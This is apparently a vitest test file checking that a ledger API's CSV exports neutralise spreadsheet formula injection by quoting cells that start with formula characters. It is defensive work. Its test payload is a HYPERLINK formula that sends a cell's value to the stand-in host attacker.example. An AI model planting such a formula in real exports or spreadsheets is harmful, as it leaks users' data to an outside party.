import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiHarness, startApi } from './support/api-harness';
import {
  type TestTenant,
  createAccount,
  createApiKey,
  mustPost,
  seededTenant,
  transfer,
  walletAndShop,
} from './support/ledger-fixtures';
import {
  bankCsv,
  createSource,
  financeKey,
  routeOwner,
  runReconciliation,
  statementDay,
  uploadStatement,
} from './support/reconciliation-fixtures';

/** What a spreadsheet runs as a formula at the start of a cell (OWASP), full-width forms included. */
const DANGEROUS_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
/** An external reference may not hold control characters: TAB and CR only reach the description. */
const PRINTABLE_STARTS = DANGEROUS_STARTS.filter((start) => start >= ' ');

const payload = (start: string) => `${start}HYPERLINK("https://attacker.example/?"&A2,"open")`;

/** The file as a spreadsheet reads it: a header row, then records of named cells. */
function readCsv(text: string): Record<string, string>[] {
  return parse(text, { columns: true, relaxQuotes: false, skipEmptyLines: true });
}

describe('CSV exports neutralise formulas', () => {
  let api: ApiHarness;
  let tenant: TestTenant;
  let auditor: string;

  beforeAll(async () => {
    api = await startApi();
    tenant = await seededTenant(api, 'csv injection');
    auditor = await createApiKey(api, tenant.adminKey, ['auditor']);
    const { wallet, shop } = await walletAndShop(api, tenant);
    await mustPost(api, tenant.posterKey, transfer('equity:seed', wallet, '100000'));
    for (const [index, start] of DANGEROUS_STARTS.entries())
      await mustPost(api, tenant.posterKey, {
        ...transfer(wallet, shop, `${index + 1}`),
        description: payload(start),
        ...(start >= ' ' ? { externalRef: `${start}ref-${index}` } : {}),
        metadata: { note: payload(start) },
      });
    const finance = await financeKey(api, tenant);
    await createAccount(api, tenant.adminKey, { code: 'assets:bank', currency: 'USD', normalBalance: 'debit' });
    await createSource(api, finance, { name: 'bank-usd', account: 'assets:bank', format: 'csv:bank' });
    await routeOwner(api, finance, { priority: 1, owner: payload('@') });
    const day = statementDay(-1);
    await uploadStatement(
      api,
      finance,
      'bank-usd',
      'bank.csv',
      bankCsv([`${day},${day},"${payload('=').replace(/"/g, '""')}",-79.50,USD,+ref-bank,Nobody`]),
    );
    await runReconciliation(api, finance);
  }, 120_000);
  afterAll(async () => {
    await api?.close();
  });

  async function exported(path: string): Promise<Record<string, string>[]> {
    const response = await api.request('GET', path, { key: auditor });
    expect(response.status, String(response.body).slice(0, 300)).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    return readCsv(response.body as string);
  }

  it('the journal: a description or external reference starting a formula begins with a quote', async () => {
    const rows = await exported('/v1/exports/journal?format=csv');
    for (const start of DANGEROUS_STARTS) {
      const cells = rows.filter((row) => row.description === `'${payload(start)}`);
      expect(cells.length, JSON.stringify(start)).toBe(2);
    }
    for (const [index, start] of PRINTABLE_STARTS.entries()) {
      const reference = `'${start}ref-${DANGEROUS_STARTS.indexOf(start)}`;
      expect(
        rows.filter((row) => row.external_ref === reference),
        `${index}`,
      ).toHaveLength(2);
    }
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row))
        expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell), `${column}: ${cell}`).toBe(false);
      expect(row.amount, 'amounts stay numbers').toMatch(/^\d+(\.\d+)?$/);
      expect(row.amount_minor).toMatch(/^\d+$/);
    }
  });

  it('the tickets: an owner or statement text starting a formula begins with a quote, amounts numbers', async () => {
    const rows = await exported('/v1/exports/discrepancies');
    const ticket = rows.find((row) => row.amount === '-79.50');
    expect(ticket, JSON.stringify(rows)).toBeDefined();
    expect(ticket!.amount_minor).toBe('-7950');
    expect(ticket!.owner).toBe(`'${payload('@')}`);
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        expect(/^[=+@\t\r\uFF1D\uFF0B\uFF0D\uFF20]|^-(?!\d+(\.\d+)?$)/.test(cell), `${column}: ${cell}`).toBe(false);
  });

  it('the runs: read back whole, their stats as JSON', async () => {
    const rows = await exported('/v1/exports/reconciliation-runs');
    expect(rows).toHaveLength(1);
    expect(JSON.parse(rows[0]!.stats!)).toMatchObject({});
    for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
